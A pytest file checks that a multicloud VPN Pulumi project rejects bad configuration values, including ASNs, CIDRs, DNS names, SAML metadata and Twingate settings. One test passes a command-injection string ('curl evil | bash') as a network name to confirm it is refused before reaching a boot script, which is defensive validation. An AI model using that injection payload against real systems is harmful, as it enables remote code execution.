"""Every bad value a user can write ends in one SettingsError that names the key."""

import copy
import json

import pytest

from components.planning.errors import SettingsError
from components.planning.settings import load_settings
from tests.harness import ROOT_DIR, stack_config, to_pulumi_config


def settings_with(**changes):
    """Dev's stack config with `siteToSite`/`gcpHub` fields replaced (None removes a field)."""
    config = copy.deepcopy(stack_config("dev"))
    for dotted, value in changes.items():
        section, _, field = dotted.partition("__")
        target = config.setdefault(f"multicloud-vpn:{section}", {})
        if value is None:
            target.pop(field, None)
        else:
            target[field] = value
    return load_settings(to_pulumi_config(config), ROOT_DIR)


def error_for(**changes) -> str:
    with pytest.raises(SettingsError) as caught:
        settings_with(**changes)
    return str(caught.value)


def assert_names_key(message: str, key: str, fragment: str) -> None:
    """One clear message: it starts with the full key and says what is accepted."""
    assert message.startswith(key + ":"), message
    assert fragment in message, message


def test_stack_files_parse():
    for stack in ("dev", "prod"):
        settings = load_settings(to_pulumi_config(stack_config(stack)), ROOT_DIR)
        assert settings.gcp_region == "asia-northeast1"
    dev = load_settings(to_pulumi_config(stack_config("dev")), ROOT_DIR).site_to_site
    assert (dev.connections, dev.tunnels_per_connection) == (1, 1)
    prod = load_settings(to_pulumi_config(stack_config("prod")), ROOT_DIR).site_to_site
    assert (prod.connections, prod.tunnels_per_connection) == (2, 2)


def test_defaults():
    s = settings_with(siteToSite__awsAsn=None, siteToSite__gcpAsn=None).site_to_site
    assert (s.aws_asn, s.gcp_asn) == (64512, 65000)
    assert s.ike_profile.name == "aes256-sha256-ecp384"
    assert s.inside_cidrs == ("169.254.10.0/30", "169.254.10.4/30")
    assert s.transit_gateway_id is None


@pytest.mark.parametrize("changes,key,fragment", [
    ({"siteToSite__tunnelsPerConnection": 3}, "multicloud-vpn:siteToSite.tunnelsPerConnection",
     "accepted values: 1, 2"),
    ({"siteToSite__connections": 4}, "multicloud-vpn:siteToSite.connections", "accepted values: 1, 2"),
    ({"siteToSite__connections": "2"}, "multicloud-vpn:siteToSite.connections", "'2'"),
    ({"siteToSite__connections": True}, "multicloud-vpn:siteToSite.connections", "True"),
    ({"siteToSite__connections": None}, "multicloud-vpn:siteToSite.connections", "required"),
    ({"siteToSite__awsAsn": 65535}, "multicloud-vpn:siteToSite.awsAsn", "64512-65534"),
    ({"siteToSite__awsAsn": 7224}, "multicloud-vpn:siteToSite.awsAsn", "private ASN"),
    ({"siteToSite__gcpAsn": 4294967295}, "multicloud-vpn:siteToSite.gcpAsn", "4200000000-4294967294"),
    ({"siteToSite__gcpAsn": "65000"}, "multicloud-vpn:siteToSite.gcpAsn", "expected an integer"),
    ({"siteToSite__gcpAsn": 64512, "siteToSite__awsAsn": 64512}, "multicloud-vpn:siteToSite.gcpAsn",
     "must differ from multicloud-vpn:siteToSite.awsAsn"),
    ({"siteToSite__insideCidrs": ["169.254.10.0/29", "169.254.10.8/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[0]", "a /30 inside 169.254.0.0/16"),
    ({"siteToSite__insideCidrs": ["10.0.0.0/30", "169.254.10.8/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[0]", "a /30 inside 169.254.0.0/16"),
    ({"siteToSite__insideCidrs": ["169.254.2.0/30", "169.254.10.8/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[0]", "not one AWS reserves"),
    ({"siteToSite__insideCidrs": ["169.254.10.0/30", "169.254.169.252/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[1]", "not one AWS reserves"),
    ({"siteToSite__insideCidrs": ["169.254.10.4/30", "169.254.10.4/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[1]", "repeats multicloud-vpn:siteToSite.insideCidrs[0]"),
    ({"siteToSite__insideCidrs": ["169.254.10.1/30", "169.254.10.8/30"]},
     "multicloud-vpn:siteToSite.insideCidrs[0]", "a /30"),
    ({"siteToSite__insideCidrs": ["169.254.10.0/30"]}, "multicloud-vpn:siteToSite.insideCidrs",
     "exactly 2 entries"),
    ({"siteToSite__insideCidrs": "169.254.10.0/30"}, "multicloud-vpn:siteToSite.insideCidrs",
     "expected a YAML list"),
    ({"siteToSite__insideCidrPool": "10.0.0.0/24"}, "multicloud-vpn:siteToSite.insideCidrPool",
     "inside 169.254.0.0/16"),
    ({"siteToSite__transitGatewayId": "vpc-123"}, "multicloud-vpn:siteToSite.transitGatewayId",
     "tgw-0123456789abcdef0"),
    ({"siteToSite__ikeProfile": "aes128-sha1"}, "multicloud-vpn:siteToSite.ikeProfile",
     "'aes256-sha256-ecp384'"),
    ({"siteToSite__advertisedRoutePriority": 70000},
     "multicloud-vpn:siteToSite.advertisedRoutePriority", "0-65535"),
    ({"siteToSite__tunnelPerConnection": 2}, "multicloud-vpn:siteToSite.tunnelPerConnection",
     "unknown setting"),
    ({"gcpHub__subnets": []}, "multicloud-vpn:gcpHub.subnets", "at least one subnet"),
    ({"gcpHub__subnets": [{"name": "Hub", "cidr": "10.0.0.0/20"}]},
     "multicloud-vpn:gcpHub.subnets[0].name", "GCP resource name"),
    ({"gcpHub__subnets": [{"name": "a", "cidr": "10.0.0.0/20"}, {"name": "b", "cidr": "10.0.8.0/21"}]},
     "multicloud-vpn:gcpHub.subnets[1].cidr", "overlaps multicloud-vpn:gcpHub.subnets[0].cidr"),
    ({"gcpHub__subnets": [{"name": "a", "cidr": "8.8.0.0/20"}]},
     "multicloud-vpn:gcpHub.subnets[0].cidr", "private IPv4 CIDR"),
    ({"gcpHub__subnets": [{"name": "a"}]}, "multicloud-vpn:gcpHub.subnets[0].cidr", "required"),
])
def test_bad_values_name_the_key(changes, key, fragment):
    assert_names_key(error_for(**changes), key, fragment)


NET = "multicloud-vpn:network"
CVPN = "multicloud-vpn:clientVpn"


@pytest.mark.parametrize("changes,key,fragment", [
    ({"network__vpcCidr": "8.0.0.0/16"}, f"{NET}.vpcCidr", "private IPv4 CIDR from /16 to /22"),
    ({"network__vpcCidr": "10.0.0.0/8"}, f"{NET}.vpcCidr", "/16 to /22"),
    ({"network__vpcCidr": "10.110.0.0/16"}, "multicloud-vpn:gcpHub.subnets[0].cidr",
     f"overlaps {NET}.vpcCidr"),
    ({"network__availabilityZones": 4}, f"{NET}.availabilityZones", "accepted values: 1, 2, 3"),
    ({"network__availabilityZones": 0}, f"{NET}.availabilityZones", "accepted values: 1, 2, 3"),
    ({"network__natGateways": "one"}, f"{NET}.natGateways", "'shared', 'perZone'"),
    ({"clientVpn__clientCidr": "172.20.0.0/23"}, f"{CVPN}.clientCidr", "/22 (1,024 addresses) to /12"),
    ({"clientVpn__clientCidr": "172.0.0.0/11"}, f"{CVPN}.clientCidr", "/22 (1,024 addresses) to /12"),
    ({"clientVpn__clientCidr": "10.10.4.0/22"}, f"{CVPN}.clientCidr", f"overlaps {NET}.vpcCidr"),
    ({"clientVpn__clientCidr": "10.110.0.0/22"}, f"{CVPN}.clientCidr",
     "overlaps multicloud-vpn:gcpHub.subnets[0].cidr"),
    ({"clientVpn__clientCidr": None}, f"{CVPN}.clientCidr", "required"),
    ({"clientVpn__samlMetadataFile": "saml/missing.xml"}, f"{CVPN}.samlMetadataFile",
     "cannot be read"),
    ({"clientVpn__samlMetadataFile": "README.md"}, f"{CVPN}.samlMetadataFile", "not XML"),
    ({"clientVpn__samlMetadataFile": "Pulumi.yaml"}, f"{CVPN}.samlMetadataFile", "not XML"),
    ({"clientVpn__transport": "icmp"}, f"{CVPN}.transport", "'udp', 'tcp'"),
    ({"clientVpn__port": 8443}, f"{CVPN}.port", "443, 1194"),
    ({"clientVpn__sessionTimeoutHours": 6}, f"{CVPN}.sessionTimeoutHours", "8, 10, 12, 24"),
    ({"clientVpn__splitTunnel": "yes"}, f"{CVPN}.splitTunnel", "true or false"),
    ({"clientVpn__splitTunnel": True, "clientVpn__splitTunnelDestinations": ["0.0.0.0/0"]},
     f"{CVPN}.splitTunnelDestinations", "that is full tunnel"),
    ({"clientVpn__splitTunnelDestinations": ["203.0.113.7/24"]},
     f"{CVPN}.splitTunnelDestinations[0]", "IPv4 CIDR"),
    ({"clientVpn__accessGroups": [{"groupId": "  "}]}, f"{CVPN}.accessGroups[0].groupId",
     "Identity Center group ID"),
    ({"clientVpn__accessGroups": [{"group": "g"}]}, f"{CVPN}.accessGroups[0].groupId", "required"),
    ({"clientVpn__logRetentionDays": 10}, f"{CVPN}.logRetentionDays", "accepted values: 1, 3"),
    ({"clientVpn__loginBanner": "x" * 1401}, f"{CVPN}.loginBanner", "at most 1400"),
    ({"clientVpn__certificateDomain": "vpn"}, f"{CVPN}.certificateDomain", "at least one dot"),
])
def test_bad_access_values_name_the_key(changes, key, fragment):
    assert_names_key(error_for(**changes), key, fragment)


HUB = "multicloud-vpn:gcpHub"
DNS = "multicloud-vpn:dns"


def many_spokes(n):
    return [{"name": f"s{i}", "cidr": f"10.{150 + i}.0.0/24"} for i in range(n)]


@pytest.mark.parametrize("changes,key,fragment", [
    ({"gcpHub__spokes": [{"name": "a", "cidr": "10.110.8.0/24"}]}, f"{HUB}.spokes[0].cidr",
     f"overlaps {HUB}.subnets[0].cidr"),
    ({"gcpHub__spokes": [{"name": "a", "cidr": "10.10.0.0/24"}]}, f"{HUB}.spokes[0].cidr",
     f"overlaps {NET}.vpcCidr"),
    ({"gcpHub__spokes": [{"name": "a", "cidr": "10.150.0.0/24"}, {"name": "b", "cidr": "10.150.0.0/25"}]},
     f"{HUB}.spokes[1].cidr", f"overlaps {HUB}.spokes[0].cidr"),
    ({"gcpHub__spokes": [{"name": "a", "cidr": "172.20.0.0/24"}]}, f"{CVPN}.clientCidr",
     f"overlaps {HUB}.spokes[0].cidr"),
    ({"gcpHub__spokes": [{"name": "a", "cidr": "10.150.0.0/24"}, {"name": "a", "cidr": "10.151.0.0/24"}]},
     f"{HUB}.spokes[1].name", "unique"),
    ({"gcpHub__spokes": [{"name": "hub-dev", "cidr": "10.150.0.0/24"}]}, f"{HUB}.spokes[0].name", "unique"),
    ({"gcpHub__spokes": [{"name": "Apps_1", "cidr": "10.150.0.0/24"}]}, f"{HUB}.spokes[0].name",
     "GCP resource name"),
    ({"gcpHub__spokes": many_spokes(26)}, f"{HUB}.spokes", "at most 25 networks"),
    ({"gcpHub__spokes": many_spokes(3), "gcpHub__peeringLimit": 2}, f"{HUB}.spokes", "at most 2"),
    ({"gcpHub__peeringLimit": 0}, f"{HUB}.peeringLimit", "1-500"),
    ({"dns__awsDomains": ["not a domain"]}, f"{DNS}.awsDomains[0]", "DNS name"),
    ({"dns__awsDomains": ["localhost"]}, f"{DNS}.awsDomains[0]", "two labels"),
    ({"dns__gcpDomains": ["-bad.example.com"]}, f"{DNS}.gcpDomains[0]", "DNS name"),
    ({"dns__gcpDomains": ["a." + "x" * 64 + ".com"]}, f"{DNS}.gcpDomains[0]", "DNS name"),
    ({"dns__awsDomains": ["a.example", "A.example."]}, f"{DNS}.awsDomains[1]", "listed twice"),
    ({"dns__gcpDomains": ["db.aws.dev.example.internal"]}, f"{DNS}.gcpDomains[0]",
     "overlaps the AWS domain aws.dev.example.internal"),
    ({"dns__awsToGcp": True, "dns__gcpDomains": []}, f"{DNS}.awsToGcp", "gcpDomains"),
    ({"dns__awsToGcp": "on"}, f"{DNS}.awsToGcp", "true or false"),
    ({"dns__gcpForwarderIps": ["10.0.0.300"]}, f"{DNS}.gcpForwarderIps[0]", "IPv4 address"),
    ({"dns__zones": []}, f"{DNS}.zones", "unknown setting"),
])
def test_bad_hub_and_dns_values_name_the_key(changes, key, fragment):
    assert_names_key(error_for(**changes), key, fragment)


TG = "multicloud-vpn:twingate"
TG_ON = {"twingate__enabled": True, "twingate__groups": ["eng"], "twingate__amiId": "ami-0123456789abcdef0",
         "twingate__resources": [{"name": "portal", "address": "portal.example.com"}]}


def twingate_error(config_extra=None, **changes):
    config = copy.deepcopy(stack_config("dev"))
    config.update(config_extra if config_extra is not None else
                  {"twingate:apiToken": "<secret>", "twingate:network": "example"})
    section = config.setdefault(TG, {})
    for dotted, value in {**TG_ON, **changes}.items():
        section[dotted.split("__")[1]] = value
    with pytest.raises(SettingsError) as caught:
        load_settings(to_pulumi_config(config), ROOT_DIR)
    return str(caught.value)


@pytest.mark.parametrize("changes,key,fragment", [
    ({"twingate__resources": []}, f"{TG}.resources", "at least one resource"),
    ({"twingate__groups": []}, f"{TG}.groups", "at least one Twingate group"),
    ({"twingate__instanceType": ""}, f"{TG}.instanceType", "non-empty"),
    ({"twingate__instanceType": "large"}, f"{TG}.instanceType", "t3.micro"),
    ({"twingate__amiId": ""}, f"{TG}.amiId", "non-empty"),
    ({"twingate__amiId": "ubuntu"}, f"{TG}.amiId", "ami-"),
    ({"twingate__amiId": None}, f"{TG}.amiId", "required when enabled: expected an AMI id"),
    ({"twingate__amiId": "resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"},
     f"{TG}.amiId", "resolve:ssm: is refused"),
    ({"twingate__setupScriptSha256": "abc"}, f"{TG}.setupScriptSha256", "64 hex digits of sha256sum"),
    ({"twingate__setupScriptSha256": "g" * 64}, f"{TG}.setupScriptSha256", "binaries.twingate.com"),
    ({"twingate__securityPolicy": " "}, f"{TG}.securityPolicy", "security policy"),
    ({"twingate__resources": [{"name": "p", "address": "a.example", "securityPolicy": ""}]},
     f"{TG}.resources[0].securityPolicy", "security policy"),
    ({"twingate__groups": ["eng", "eng"]}, f"{TG}.groups[1]", "listed twice"),
    ({"twingate__groups": [" "]}, f"{TG}.groups[0]", "non-empty"),
    ({"twingate__resources": [{"name": "p", "address": " "}]}, f"{TG}.resources[0].address", "non-empty"),
    ({"twingate__resources": [{"name": "p", "address": "a.example", "ports": ["70000"]}]},
     f"{TG}.resources[0].ports[0]", "1-65535"),
    ({"twingate__resources": [{"name": "p", "address": "a.example", "groups": ["ops"]}]},
     f"{TG}.resources[0].groups[0]", "not one of"),
])
def test_bad_twingate_values_name_the_key(changes, key, fragment):
    assert_names_key(twingate_error(**changes), key, fragment)


def test_twingate_enabled_without_credentials():
    assert twingate_error({}).startswith("twingate:apiToken: a missing value")
    assert twingate_error({"twingate:apiToken": "<secret>"}).startswith("twingate:network: a missing value")


@pytest.mark.parametrize("network", ["Example", "ex ample", 'x"; curl evil | bash; "', "example.twingate.com", "-x"])
def test_twingate_network_is_a_dns_label_since_it_goes_into_the_boot_script(network):
    message = twingate_error({"twingate:apiToken": "<secret>", "twingate:network": network})
    assert message.startswith(f"twingate:network: {network!r} is not accepted; expected the <name> of "
                              "<name>.twingate.com"), message


def test_domains_are_normalised():
    dns = settings_with(dns__awsDomains=["AWS.Example.Internal."]).dns
    assert dns.aws_domains == ("aws.example.internal.",)


def test_metadata_that_is_xml_but_not_saml(tmp_path):
    other = tmp_path / "other.xml"
    other.write_text('<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">'
                     "<md:SPSSODescriptor/></md:EntityDescriptor>")
    message = error_for(clientVpn__samlMetadataFile=str(other))
    assert message.startswith(f"{CVPN}.samlMetadataFile:") and "IDPSSODescriptor" in message


def test_client_vpn_is_optional_and_switching_it_off_keeps_checking_what_is_written():
    config = to_pulumi_config(stack_config("dev"))
    del config[CVPN]
    assert load_settings(config, ROOT_DIR).client_vpn.enabled is False
    assert settings_with(clientVpn__enabled=False).client_vpn.enabled is False
    message = error_for(clientVpn__enabled=False, clientVpn__port=1)
    assert message.startswith(f"{CVPN}.port:")


def test_missing_sections_and_provider_settings():
    config = to_pulumi_config(stack_config("dev"))
    for missing, key, fragment in (
            ("multicloud-vpn:siteToSite", "multicloud-vpn:gcpHub", "it needs multicloud-vpn:siteToSite"),
            ("multicloud-vpn:gcpHub", "multicloud-vpn:gcpHub", "a missing value"),
            ("multicloud-vpn:network", "multicloud-vpn:network.vpcCidr", "Client VPN and Twingate live in a VPC"),
            ("gcp:project", "gcp:project", "a missing value"),
            ("aws:region", "aws:region", "a missing value")):
        broken = {k: v for k, v in config.items() if k != missing}
        with pytest.raises(SettingsError) as caught:
            load_settings(broken, ROOT_DIR)
        assert str(caught.value).startswith(f"{key}: ") and fragment in str(caught.value), str(caught.value)


def test_wrong_shape_of_a_section():
    config = to_pulumi_config(stack_config("dev"))
    config["multicloud-vpn:siteToSite"] = json.dumps([1, 1])
    with pytest.raises(SettingsError, match=r"^multicloud-vpn:siteToSite: \[1, 1\].*YAML object"):
        load_settings(config, ROOT_DIR)
    config["multicloud-vpn:siteToSite"] = "connections=1"
    with pytest.raises(SettingsError, match=r"^multicloud-vpn:siteToSite: 'connections=1'"):
        load_settings(config, ROOT_DIR)
